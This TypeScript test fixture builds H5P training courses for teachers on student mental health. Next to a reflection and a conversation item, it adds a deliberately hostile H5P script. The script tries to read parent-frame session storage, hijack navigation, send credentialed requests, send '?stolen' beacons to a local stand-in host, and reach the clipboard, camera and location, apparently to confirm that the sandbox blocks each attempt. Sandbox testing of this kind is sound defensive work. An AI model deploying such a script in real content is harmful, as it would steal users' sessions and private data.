import { cp, mkdir, mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { projectFolder } from '../../src/config.ts';

/* A course with one content of each type of ours, and one that means harm. */

const help = { title: '现在就需要帮助？', lines: [{ number: '12356', label: '全国统一心理援助热线' }] };

export const reflection = {
  title: '想一想',
  contentLanguage: 'zh-CN',
  intro: '<p>放下手里的事，给自己三分钟。</p>',
  prompts: [
    {
      question: '最近哪一刻，您觉得学生和平时不一样？',
      hint: '<p>写看见的，不写判断。</p>',
      starter: '那天……',
    },
    { question: '下一次，您想先说哪一句话？' },
  ],
  help,
};

export const conversation = {
  title: '走廊上的三分钟',
  contentLanguage: 'zh-CN',
  intro: '<p>课间，小林一个人站在走廊尽头。</p>',
  student: '小林',
  turns: [
    {
      id: 'corridor',
      narration: '他看见您，低下了头。',
      words: '老师，我没事。',
      choices: [
        {
          text: '我看你这几天中午都一个人。愿意和我走一走吗？',
          worth: 'helps',
          remark: '说看见的，再邀请。',
          next: 'walk',
        },
        { text: '没事就好，快上课了。', worth: 'hinders', remark: '门关上了。', next: 'walk' },
      ],
    },
    {
      id: 'walk',
      words: '……我不知道从哪儿说起。',
      choices: [
        { text: '不急，想到哪儿说到哪儿。', worth: 'helps', remark: '给他时间。' },
        { text: '那就从成绩说起吧。', worth: 'partly', remark: '替他选了话题。' },
      ],
    },
  ],
  closing: '<p>走近一步，已经不容易。</p>',
  help,
};

/** Tries everything that a content must not be able to do, and keeps what came of it in `window.found`. */
const HOSTILE = `var H5P = window.H5P || {};
window.found = {};
var noted = function (name, value) { window.found[name] = String(value); };
var attempt = function (name, act) {
  try { noted(name, 'did: ' + act()); } catch (error) { noted(name, 'refused: ' + error.name); }
};
var attemptLater = function (name, act) {
  try {
    Promise.resolve(act()).then(function (value) { noted(name, 'did: ' + value); }, function (error) { noted(name, 'refused: ' + (error && error.name)); });
  } catch (error) { noted(name, 'refused: ' + error.name); }
};
// What it left the last time, before anything else.
attempt('left', function () { return [localStorage.getItem('mark'), sessionStorage.getItem('mark'), document.cookie].join('|'); });
attemptLater('leftDatabase', function () { return indexedDB.databases().then(function (all) { return all.length; }); });

H5P.TestHostile = function () { H5P.EventDispatcher.call(this); };
H5P.TestHostile.prototype = Object.create(H5P.EventDispatcher.prototype);
H5P.TestHostile.prototype.constructor = H5P.TestHostile;
H5P.TestHostile.prototype.getCurrentState = function () { return { tried: true }; };
H5P.TestHostile.prototype.attach = function (container) {
  container[0].innerHTML = '<p id="harm" tabindex="0">harm</p><button id="window">window</button>';
  var service = document.documentElement.dataset.parent;
  attempt('parentDocument', function () { return parent.document.title; });
  attempt('parentStorage', function () { return parent.sessionStorage.getItem('xinqiao.session'); });
  attempt('parentLocation', function () { return parent.location.href; });
  attempt('topLocation', function () { top.location.href = service + '/verify'; return 'gone'; });
  attempt('topOpen', function () { return window.open(service + '/verify', '_top'); });
  attempt('opener', function () { return parent.opener.document; });
  attempt('frameElement', function () { return window.frameElement.removeAttribute('sandbox'); });
  attempt('eval', function () { return eval('1 + 1'); });
  attemptLater('worker', function () { return new Promise(function (resolve, reject) { var worker = new Worker(H5P.getLibraryPath('H5P.TestHostile-1.0') + '/worker.js'); worker.onmessage = resolve; worker.onerror = function () { reject(new Error()); }; }); });
  attemptLater('serviceWorker', function () { return navigator.serviceWorker.register(H5P.getLibraryPath('H5P.TestHostile-1.0') + '/worker.js', { scope: '/' }); });
  attemptLater('fetchService', function () { return fetch(service + '/graphql', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"query":"{viewer{person{id}}}"}' }); });
  attemptLater('fetchElsewhere', function () { return fetch('http://127.0.0.1:9/stolen', { mode: 'no-cors' }); });
  attemptLater('beacon', function () { return new Promise(function (resolve, reject) { var image = new Image(); image.onload = resolve; image.onerror = function () { reject(new Error()); }; image.src = service + '/favicon.ico?stolen'; }); });
  attemptLater('clipboard', function () { return navigator.clipboard.readText(); });
  attemptLater('geolocation', function () { return new Promise(function (resolve, reject) { navigator.geolocation.getCurrentPosition(resolve, function () { reject(new Error()); }); }); });
  attemptLater('camera', function () { return navigator.mediaDevices.getUserMedia({ video: true }); });
  window.sendForm = function () { var form = document.createElement('form'); form.action = service + '/graphql'; form.method = 'post'; document.body.append(form); form.submit(); };
  attempt('inlineScript', function () { var script = document.createElement('script'); script.textContent = 'window.ran = true'; document.body.append(script); return window.ran === true ? 'ran' : 'nothing'; });
  var frame = document.createElement('iframe'); frame.src = service + '/'; frame.title = 'service'; document.body.append(frame);
  frame.addEventListener('load', function () { attempt('framedService', function () { return frame.contentWindow.document.title || 'blank'; }); });
  // For the next content to find.
  localStorage.setItem('mark', 'here'); sessionStorage.setItem('mark', 'here');
  attempt('cookie', function () { document.cookie = 'mark=here; Path=/'; return document.cookie; });
  indexedDB.open('mark');
  document.getElementById('window').addEventListener('click', function () { window.opened = window.open(service + '/verify'); });
};`;

const library = (name: string): string =>
  JSON.stringify({
    title: name,
    machineName: name,
    majorVersion: 1,
    minorVersion: 0,
    patchVersion: 0,
    runnable: 1,
    preloadedJs: [{ path: 'script.js' }],
  });

/** Our courses with a module more: `reflection`, `conversation` and `hostile`. */
export async function makeCourses(): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'xinqiao-playing-'));
  const course = join(root, 'core-gatekeeper');
  for (const shared of ['libraries', 'hotlines.yaml'])
    await cp(join(projectFolder, 'courses', shared), join(root, shared), { recursive: true });
  await cp(join(projectFolder, 'courses/core-gatekeeper'), course, { recursive: true });
  const write = async (key: string, machineName: string, parameters: object): Promise<void> => {
    await mkdir(join(course, 'content', key, 'content'), { recursive: true });
    await writeFile(join(course, 'content', key, 'content/content.json'), JSON.stringify(parameters));
    await writeFile(
      join(course, 'content', key, 'h5p.json'),
      JSON.stringify({
        title: key,
        language: 'zh-cn',
        mainLibrary: machineName,
        embedTypes: ['div'],
        license: 'U',
        preloadedDependencies: [{ machineName, majorVersion: 1, minorVersion: 0 }],
      }),
    );
  };
  await write('reflection', 'H5P.XinqiaoReflection', reflection);
  await write('conversation', 'H5P.XinqiaoConversation', conversation);
  await write('hostile', 'H5P.TestHostile', {});
  const hostile = join(course, 'content/hostile/H5P.TestHostile-1.0');
  await mkdir(hostile);
  await writeFile(join(hostile, 'library.json'), library('H5P.TestHostile'));
  await writeFile(join(hostile, 'script.js'), HOSTILE);
  await writeFile(
    join(hostile, 'worker.js'),
    'self.addEventListener("fetch", function () {}); self.postMessage && self.postMessage("runs");',
  );
  const file = join(course, 'course.yaml');
  const manifest = parse(await readFile(file, 'utf8')) as { modules: object[] };
  const title = (text: string): object => ({ 'zh-CN': text, en: text });
  manifest.modules.push({
    key: 'playing',
    title: title('Playing'),
    summary: title('Playing'),
    activities: ['reflection', 'conversation', 'hostile'].map((key) => ({
      key,
      kind: 'h5p',
      title: title(key),
      minutes: 3,
      content: { 'zh-CN': `content/${key}`, en: `content/${key}` },
      complete: 'completed',
    })),
  });
  await writeFile(file, stringify(manifest));
  return root;
}
